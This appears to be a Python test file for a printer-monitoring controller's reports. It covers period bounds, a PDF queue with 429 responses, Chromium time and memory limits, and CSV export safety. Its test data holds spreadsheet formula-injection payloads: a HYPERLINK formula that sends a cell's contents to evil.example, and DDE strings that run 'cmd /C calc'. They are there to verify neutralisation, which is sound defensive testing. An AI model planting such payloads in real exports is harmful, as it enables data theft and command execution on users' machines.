"""Reports are bounded (issue 23.7, 23.9): periods checked in one place for the API, the CLI and
the monthly mail; PDFs one at a time from a bounded queue (429 + Retry-After), each Chromium run
under a time and a memory limit with nothing of it left after; a PDF needs a token; every other
date, number and duration a route takes answers 4xx, never 500; CSV cells a spreadsheet would
run are written as text."""

from __future__ import annotations

import csv
import io
import os
import socket
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from conftest import cli_account, wait_until
from controller import csv_safe, pdf_queue, reporting
from controller.api import create_app
from controller.config import CenterInfo, ControllerConfig, HttpSettings
from controller.feed import StorePerThread
from controller.state import DeviceInfo, Reading
from controller.store import Store
from hcc_common.calendar import OpeningHours
from hcc_common.mqtt_io import BrokerSettings

TOKEN = "desk-token-0123456789abcdef"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", " =1+1"]


def config(db: Path) -> ControllerConfig:
    return ControllerConfig(broker=BrokerSettings("127.0.0.1", 1), db=db,
                            centers=(CenterInfo(id="q1", name="=Trung tâm", hours=OpeningHours()),),
                            http=HttpSettings(tokens={TOKEN: "ops-desk"}, read_open=True))


@pytest.fixture
def env(tmp_path: Path) -> Iterator[tuple[TestClient, Store, ControllerConfig]]:
    db = tmp_path / "r.db"
    store = Store(db)
    now = time.time()
    effects: list[object] = []
    for i, name in enumerate(FORMULAS):
        effects.append(DeviceInfo(center="q1", agent="pi-1", device=f"prn{i}", name=name,
                                  type="printer", status="ok", last_seen=now, agent_ts=now,
                                  consecutive_failures=0,
                                  metrics={"model": "=cmd|'/C calc'!A0", "supply.1.name": "@Black",
                                   "supply.1.pct": 50.0, "page_count": 100}, faults=()))
        for k in range(4):
            effects.append(Reading(center="q1", agent="pi-1", device=f"prn{i}", type="printer",
                                   ts=now - 3600 * (k + 1), status="ok",
                                   metrics={"page_count": 100 + k, "supply.1.pct": 50.0 + k}))
    store.write(effects)  # type: ignore[arg-type]
    cli_account(db)  # the CLI reads as an account (never anonymously)
    cfg = config(db)
    yield TestClient(create_app(cfg, StorePerThread(db), None),
                     raise_server_exceptions=False), store, cfg


# -- one check of a period, for the API, the CLI and the mail ----------------------------------
@pytest.mark.parametrize("params", [
    {"from": "9999-01-01", "to": "9999-12-31", "format": "csv"},  # was 500 (OverflowError)
    {"from": "0001-01-01", "to": "0001-01-02"},
    {"month": "9999-12"}, {"month": "1999-12", "format": "csv"}, {"month": "2101-01"},
    {"from": "2026-01-01", "to": "2027-02-05"},  # 401 days
    {"from": "2026-02-01", "to": "2026-01-01"},
])
def test_report_periods_out_of_bounds_are_400_with_a_reason(env, params) -> None:
    client, _, _ = env
    r = client.get("/api/v1/report", params=params)
    assert r.status_code == 400, (params, r.status_code, r.text)
    detail = r.json()["detail"]
    assert "2000 and 2100" in detail or "400 days" in detail or "before" in detail, detail
    page = client.get("/reports", params={k: v for k, v in params.items() if k == "month"})
    assert page.status_code in (200, 400)  # a month-less page shows this month


def test_report_of_400_days_is_made(env) -> None:
    client, _, _ = env
    r = client.get("/api/v1/report", params={"from": "2026-01-01", "to": "2027-02-04",
                                             "format": "csv"})
    assert r.status_code == 200, r.text


@pytest.mark.integration
def test_cli_and_monthly_mail_use_the_same_check(env, tmp_path: Path) -> None:
    from conftest import run_cli

    _, store, cfg = env
    bad = run_cli("hcc-controller", "--lang", "en", "report", "--db", str(cfg.db), "--from",
                  "9999-01-01",
                  "--to", "9999-12-31", "--format", "csv", "--out", str(tmp_path / "r.csv"))
    assert bad.returncode == 2 and "between 2000 and 2100" in bad.stderr, bad.stderr
    assert "Traceback" not in bad.stderr
    long = run_cli("hcc-controller", "--lang", "en", "report", "--db", str(cfg.db), "--from",
                   "2026-01-01",
                   "--to", "2027-12-31", "--out", str(tmp_path / "r.html"))
    assert long.returncode == 2 and "at most 400 days" in long.stderr
    with pytest.raises(ValueError, match="between 2000 and 2100"):
        reporting.send_monthly(store, cfg, "9999-12", time.time())


# -- every other route's dates, numbers and durations: 4xx, never 500 --------------------------
@pytest.mark.parametrize("url", [
    "/api/v1/alerts?since=9999-12-31T23:59:59Z", "/api/v1/alerts?until=0001-01-01T00:00:00Z",
    "/api/v1/alerts?since=1e300", "/api/v1/alerts?since=-99999999999999",
    "/api/v1/alerts?limit=0", "/api/v1/alerts?limit=99999999999999999999999",
    "/api/v1/stats?since=9999-12-31T23:59:59-23:00", "/api/v1/stats?since=nan",
    "/api/v1/alerts/0", "/api/v1/alerts/99999999999999999999999",
    "/api/v1/devices/q1/prn0/series?range=9999d", "/api/v1/speedtest?bytes=99999999999",
    "/api/v1/report?month=2026-11&format=xls", "/reports?month=9999-12",
])
def test_out_of_range_parameters_are_4xx(env, url: str) -> None:
    client, _, _ = env
    r = client.get(url, headers=AUTH)
    assert 400 <= r.status_code < 500, (url, r.status_code, r.text)


@pytest.mark.parametrize("body", [
    {"duration": "99999999999999999999d"}, {"duration": "1e308s"}, {"duration": "91d"},
    {"duration": "0s"}, {"starts_at": 1e300}, {"starts_at": -1}, {"starts_at": float("nan")},
])
def test_silence_bounds_are_4xx(env, body) -> None:
    client, _, _ = env
    r = client.post("/api/v1/silences", headers=AUTH, content=_json(
        {"center": "q1", "duration": "1h", "reason": "bảo trì", **body}))
    assert r.status_code == 422, (body, r.status_code, r.text)


def _json(value: object) -> bytes:
    import json

    return json.dumps(value, allow_nan=True).encode()


# -- PDFs: a token, one at a time, a bounded queue ---------------------------------------------
def test_pdf_needs_a_token_even_when_reads_are_open(env) -> None:
    client, _, cfg = env
    assert cfg.http is not None and cfg.http.read_open
    r = client.get("/api/v1/report", params={"month": "2026-11", "format": "pdf"})
    assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
    bad = client.get("/api/v1/report", params={"month": "2026-11", "format": "pdf"},
                     headers={"Authorization": "Bearer wrong"})
    assert bad.status_code == 401
    assert client.get("/api/v1/report", params={"month": "2026-11",
                                                "format": "csv"}).status_code == 200


def test_pdf_queue_admits_one_and_a_bounded_wait() -> None:
    queue = pdf_queue.PdfQueue(waiting_max=2)
    release = threading.Event()
    inside: list[int] = []

    def job(n: int) -> None:
        with queue.slot():
            inside.append(n)
            release.wait(10)

    threads = [threading.Thread(target=job, args=(n,)) for n in range(3)]
    for t in threads:
        t.start()
    wait_until(lambda: queue.admitted == 3, 5, "one running, two waiting")
    assert len(inside) == 1  # one at a time
    with pytest.raises(pdf_queue.PdfBusy) as busy, queue.slot():
        pass
    assert busy.value.retry_after_s >= 1
    done = threading.Event()

    def mail() -> None:  # the monthly mail waits its turn, however full the queue is
        with queue.slot(wait=True):
            done.set()

    waiter = threading.Thread(target=mail)
    waiter.start()
    release.set()
    for t in (*threads, waiter):
        t.join(10)
    assert done.is_set() and sorted(inside) == [0, 1, 2] and queue.admitted == 0


@pytest.mark.integration
@pytest.mark.parametrize(("fmt", "queue_name", "first"), [("pdf", "QUEUE", b"%PDF"),
                                                          ("csv", "REPORTS", b"\xef\xbb\xbf#")])
def test_queue_full_is_429_with_retry_after_and_the_waiting_ones_are_made(
        env, monkeypatch: pytest.MonkeyPatch, fmt: str, queue_name: str, first: bytes) -> None:
    """PDFs one at a time; any report (HTML, CSV: open to anonymous readers) in its own queue."""
    if fmt == "pdf" and reporting.chromium() is None:
        pytest.skip("no Chromium here")
    client, _, _ = env
    queue = pdf_queue.PdfQueue(waiting_max=2)
    monkeypatch.setattr(pdf_queue, queue_name, queue)
    release = threading.Event()

    def hold() -> None:  # a report being made, as long as the test wants
        with queue.slot():
            release.wait(30)

    holder = threading.Thread(target=hold)
    holder.start()
    wait_until(lambda: queue.admitted == 1, 5, "the slot taken")
    answers: list[tuple[int, str | None, bytes]] = []

    def ask() -> None:
        r = client.get("/api/v1/report", params={"month": time.strftime("%Y-%m"),
                                                 "format": fmt}, headers=AUTH)
        answers.append((r.status_code, r.headers.get("retry-after"), r.content[:4]))

    askers = [threading.Thread(target=ask) for _ in range(5)]
    for t in askers:
        t.start()
    wait_until(lambda: len(answers) == 3 and queue.admitted == 3, 30,
               "two waiting, three turned away")
    assert all(code == 429 and retry is not None and int(retry) >= 1
               for code, retry, _ in answers), answers
    release.set()
    for t in (holder, *askers):
        t.join(120)
    made = [a for a in answers if a[0] == 200]
    assert len(made) == 2 and all(body == first for *_, body in made), answers


def test_a_slot_holder_takes_no_second_slot_of_its_queue() -> None:
    """The API holds the PDF slot for the whole PDF; the render inside it does not wait on it."""
    queue = pdf_queue.PdfQueue(waiting_max=0)
    with queue.slot(), queue.slot():
        assert queue.admitted == 1
    assert queue.admitted == 0


# -- each Chromium run: a time and a memory limit, nothing left behind -------------------------
def _left(marker: str) -> list[int]:
    """Processes whose command line holds `marker` (what a run may have left)."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if marker.encode() in Path(f"/proc/{entry.name}/cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def test_watchdog_kills_the_whole_session_over_time(tmp_path: Path) -> None:
    marker = f"hcc-watchdog-{os.getpid()}-t"
    sleeper = f"'{sys.executable}' -c 'import time; time.sleep(60)' {marker}"
    # two children in the background, as a browser's helpers, and the leader itself
    script = f"{sleeper} & {sleeper} & exec {sleeper}"
    with pytest.raises(pdf_queue.LimitExceeded, match="did not finish"):
        pdf_queue.run_bounded(["sh", "-c", script], stderr_path=tmp_path / "err",
                              time_limit_s=1.0)
    wait_until(lambda: not _left(marker), 5, "nothing of the run left")


def test_watchdog_kills_over_memory_and_measures_it(tmp_path: Path) -> None:
    marker = f"hcc-watchdog-{os.getpid()}-m"
    hog = "import sys, time; x = bytearray(400 << 20); x[::4096] = b'x' * len(x[::4096]); " \
          "time.sleep(60)"
    with pytest.raises(pdf_queue.LimitExceeded, match="MiB"):
        pdf_queue.run_bounded([sys.executable, "-c", hog, marker],
                              stderr_path=tmp_path / "err", time_limit_s=30,
                              memory_limit_bytes=100 << 20)
    wait_until(lambda: not _left(marker), 5, "the hog gone")
    ok = pdf_queue.run_bounded([sys.executable, "-c", "x = bytearray(50 << 20); "
                                "x[::4096] = b'x' * len(x[::4096]); import time; time.sleep(1)"],
                               stderr_path=tmp_path / "err2", time_limit_s=30)
    assert ok.returncode == 0 and ok.peak_memory_bytes >= 50 << 20


@pytest.mark.integration
def test_chromium_over_its_limits_is_stopped_with_everything_it_started(tmp_path: Path) -> None:
    binary = reporting.chromium()
    if binary is None:
        pytest.skip("no Chromium here")
    # a page whose image never comes: Chromium waits for it forever
    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)
    try:
        page = tmp_path / "slow.html"
        page.write_text(f'<img src="http://127.0.0.1:{silent.getsockname()[1]}/x.png">')
        for limit, match in (({"time_limit_s": 3.0}, "did not finish"),
                             ({"memory_limit_bytes": 20 << 20}, "MiB")):
            profile = tmp_path / f"profile-{match[:4]}"
            cmd = [binary, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                   f"--user-data-dir={profile}", f"--print-to-pdf={tmp_path / 'x.pdf'}",
                   page.as_uri()]
            with pytest.raises(pdf_queue.LimitExceeded, match=match):
                pdf_queue.run_bounded(cmd, stderr_path=tmp_path / "err", **limit)  # type: ignore[arg-type]
            wait_until(lambda p=profile: not _left(str(p)), 5, "every Chromium process gone")
    finally:
        silent.close()
    # through the report's own path: a ReportError that says what happened
    with pytest.raises(reporting.ReportError, match="MiB"):
        reporting.html_to_pdf("<p>x</p>", tmp_path / "r.pdf", memory_limit_bytes=20 << 20)


# -- CSV cells a spreadsheet would run ---------------------------------------------------------
def test_csv_cells_that_start_a_formula_are_text() -> None:
    for text in FORMULAS:
        assert csv_safe.cell(text) == "'" + text.replace("\r", "\n"), text
    for plain in ("Máy in quầy 2", "-3.5", "-12", "1e-3", "", "a=b", "HP-1"):
        assert csv_safe.cell(plain) == plain
    for number in (-3, -2.5, 0, 7):
        assert csv_safe.cell(number) == number


def test_the_monthly_csv_neutralises_names_from_boxes_and_config(env) -> None:
    client, _, _ = env
    r = client.get("/api/v1/report", params={"month": time.strftime("%Y-%m"), "format": "csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    for name in FORMULAS:
        assert "'" + name.replace("\r", "\n") in cells, name  # the device's name, as text
        assert name not in cells
    assert "'=Trung tâm" in cells and "'@Black" in cells  # a center's and a supply's name
    # nothing left a spreadsheet would run
    risky = [c for c in cells if c[:1] in "=+-@\t\r" and csv_safe.cell(c) != c]
    assert risky == []


def test_every_csv_the_project_writes_goes_through_csv_safe() -> None:
    root = Path(__file__).parent.parent
    offenders = []
    for path in (*root.glob("controller/**/*.py"), *root.glob("agent/**/*.py"),
                 *root.glob("hcc_common/**/*.py"), *root.glob("lab/**/*.py"),
                 *root.glob("bench/**/*.py")):
        if path.name == "csv_safe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


def test_pdf_limits_are_set_in_controller_yaml(tmp_path: Path) -> None:
    from controller.config import load
    from hcc_common.yamlconf import ConfigError

    path = tmp_path / "controller.yaml"
    path.write_text("reports:\n  pdf:\n    time_limit: 3m\n    memory_limit_mb: 8192\n")
    settings = load(path).reports
    assert settings.pdf_time_limit_s == 180 and settings.pdf_memory_limit_mb == 8192
    path.write_text("reports:\n  pdf:\n    memory_limit_mb: 10\n")
    with pytest.raises(ConfigError) as err:
        load(path)
    assert f"{path}:3" in str(err.value)


@pytest.mark.integration
@pytest.mark.parametrize("args", [["ack", "99999999999999999999"], ["resolve", "0"],
                                  ["deadletters", "--limit", "99999999999999999999"],
                                  ["silence", "--end", "99999999999999999999999"]])
def test_cli_numbers_out_of_range_are_refused_not_a_traceback(env, args: list[str]) -> None:
    from conftest import run_cli

    _, _, cfg = env
    done = run_cli("hcc-controller", *args, "--db", str(cfg.db))
    assert done.returncode == 2 and "Invalid value" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and "OverflowError" not in done.stderr
